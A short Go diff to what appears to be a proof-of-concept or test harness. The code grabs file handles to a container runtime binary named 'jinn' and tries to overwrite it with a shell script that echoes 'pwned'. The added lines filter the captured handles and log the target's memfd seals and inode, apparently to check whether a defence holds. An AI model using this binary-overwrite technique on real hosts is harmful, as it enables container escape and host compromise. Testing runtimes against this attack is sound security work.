@@ -97,6 +97,12 @@ func exe(args []string) {
 			if err != nil {
 				continue
 			}
+			// The process may have exec'd between readlink and open: keep
+			// the handle only if it is the runtime's binary.
+			if got, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd)); !strings.Contains(got, "jinn") {
+				unix.Close(fd)
+				continue
+			}
 			held[pid] = fd
 			caught++
 			fmt.Println("caught", pid, link)
@@ -112,6 +118,11 @@ func exe(args []string) {
 			if err == nil {
 				if _, err = unix.Write(w, []byte("#!/bin/sh\necho pwned\n")); err == nil {
 					wrote++
+					seals, serr := unix.FcntlInt(uintptr(w), unix.F_GET_SEALS, 0)
+					var st unix.Stat_t
+					unix.Fstat(w, &st)
+					link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(w))
+					fmt.Println("wrote into", link, "seals", seals, errno(serr), "size", st.Size, "ino", st.Ino)
 				}
 				unix.Close(w)
 			}
